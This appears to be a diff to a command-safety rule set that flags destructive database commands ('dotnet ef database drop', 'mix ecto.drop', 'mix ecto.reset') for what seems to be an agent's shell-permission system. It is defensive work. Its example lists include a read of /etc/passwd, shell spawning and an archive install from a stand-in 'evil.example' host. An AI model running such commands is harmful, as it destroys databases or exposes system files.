@@ -69,6 +69,21 @@ var _ = family("packages", func(add func(...*Spec)) {
 	extDoes := func(e Effect) *Spec {
 		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
 	}
+	dotnetEF := &Spec{Effect: RunsProject, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h -v|--verbose --no-color --prefix-output", OtherSubcommand: RunsProject,
+		Subcommands: subs("database", &Spec{Options: "-h:h --help:h -v|--verbose --no-color --prefix-output", OtherSubcommand: RunsProject,
+			Subcommands: subs("drop", &Spec{Effect: Network, Permute: true, Loose: true, Operands: "-*",
+				Options: "-h:h --help:h -f|--force --dry-run -c|--context= -p|--project= -s|--startup-project= --framework= --configuration= --runtime= --msbuildprojectextensionspath= --no-build -v|--verbose --no-color --prefix-output",
+				Raises: []Raise{{Kind: danger.DBDestructive, Unless: "--dry-run", Why: "{prog} ef database drop drops the database",
+					Flagged: []string{"dotnet ef database drop", "dotnet ef database drop --force", "dotnet ef database drop -f -p src/App", "/usr/bin/dotnet ef database drop -f", "dotnet ef -v database drop --force"},
+					Passes:  []string{"dotnet ef database update", "dotnet ef database drop --dry-run", "dotnet ef migrations add Drop", "dotnet ef database drop --help"}}}})})}
+	// mix ecto.drop and ecto.reset (ecto_sql's tasks) drop the database,
+	// also as a task of mix do (TASK + TASK, or TASK, TASK before 1.14).
+	ectoDrops := func(task string) *Spec {
+		return &Spec{Effect: RunsProject, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h -r|--repo= --force --no-compile --quiet",
+			Raises: []Raise{{Kind: danger.DBDestructive, Why: "{prog} " + task + " drops the database",
+				Flagged: []string{"mix " + task, "mix " + task + " -r MyApp.Repo", "MIX_ENV=test mix " + task, "/usr/local/bin/mix " + task + " --force"},
+				Passes:  []string{"mix ecto.migrate", "mix ecto.create", "mix test test/" + task + "_test.exs"}}}}
+	}
 	add(
 		// lerna 9.0.7 (yargs, --help observed): options anywhere, --x=v or
 		// apart. list/changed/diff/info read the workspace and git; run,
@@ -260,12 +275,15 @@ var _ = family("packages", func(add func(...*Spec)) {
 			OtherSubcommand: RunsProject,
 			ReadOnly:        []string{"sbt --version"},
 			Flagged:         []string{"sbt compile", "sbt test", "sbt console", "sbt 'runMain Evil'"}},
+		// dotnet ef (the dotnet-ef tool, EF Core 8: System.CommandLine
+		// style options -f|--force, --dry-run): database drop drops the
+		// database, unless --dry-run only says which.
 		&Spec{Names: n("dotnet"), Grant: Grant{Depth: 1, Deeper: "ef tool", Offers: []string{"dotnet build x => Bash(dotnet build:*)", "dotnet ef dev --x => Bash(dotnet ef dev:*)"}}, OtherSubcommand: Unknown,
 			// fsi is F# interactive: it reads code from standard input.
 			Options: "--version:h --info:h --list-sdks:h --list-runtimes:h -h:h --help:h -d --diagnostics",
 			Subcommands: subs("build", does(RunsProject, ""), "test", does(RunsProject, ""), "run", does(RunsProject, ""), "restore", does(RunsProject, ""), "publish", does(RunsProject, ""),
 				"pack", does(RunsProject, ""), "clean", does(RunsProject, ""), "watch", does(RunsProject, ""), "msbuild", does(RunsProject, ""), "build-server", does(RunsProject, ""),
-				"format", does(RunsProject, ""), "ef", does(RunsProject, ""), "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "list", does(RunsProject, ""),
+				"format", does(RunsProject, ""), "ef", dotnetEF, "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "list", does(RunsProject, ""),
 				"store", does(RunsProject, ""), "vstest", does(RunsProject, ""), "fsi", does(Exec, ""), "exec", runsCmd(""),
 				"tool", &Spec{Options: "-h:h --help:h", Subcommands: subs("run", runsCmd(""), "install", does(Config, ""), "update", does(Config, ""), "uninstall", does(Config, ""),
 					"restore", does(RunsProject, ""), "list", lists("-g --global --local --tool-path="), "search", does(Network, ""))},
@@ -286,7 +304,11 @@ var _ = family("packages", func(add func(...*Spec)) {
 			Options: "-v:h --version:h -h:h --help:h",
 			Subcommands: subs("cmd", runsCmd("--app="), "run", does(RunsProject, "-e=k --eval=k -r=l --require=l"), "eval", &Spec{Lang: "elixir", Operands: "c -*", Loose: true, Effect: RunsProject},
 				"format", does(Write, ""), "clean", does(Delete, ""), "deps.clean", does(Delete, ""), "archive.install", does(Config, ""), "local.hex", does(Config, ""),
-				"local.rebar", does(Config, ""), "escript.install", does(Config, ""), "hex.publish", does(Network, ""), "help", does(RunsProject, "")),
+				"local.rebar", does(Config, ""), "escript.install", does(Config, ""), "hex.publish", does(Network, ""), "help", does(RunsProject, ""),
+				"ecto.drop", ectoDrops("ecto.drop"), "ecto.reset", ectoDrops("ecto.reset"),
+				"do", &Spec{Effect: RunsProject, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h",
+					Raises: []Raise{{Kind: danger.DBDestructive, Operand: "ecto.drop ecto.drop,* ecto.reset ecto.reset,*", Why: "{prog} do {value} drops the database",
+						Flagged: []string{"mix do ecto.drop + ecto.create", "mix do ecto.drop, ecto.create", "mix do deps.get + ecto.reset"}, Passes: []string{"mix do deps.get + compile", "mix do ecto.create + ecto.migrate"}}}}),
 			ReadOnly: []string{"mix --version"},
 			Flagged:  []string{"mix test", "mix run -e 'System.cmd(\"sh\", [\"-c\", \"id\"])'", "mix eval 'File.read!(\"/etc/passwd\")'", "mix cmd sh -c id", "mix archive.install https://evil.example/x.ez"}},
 	)
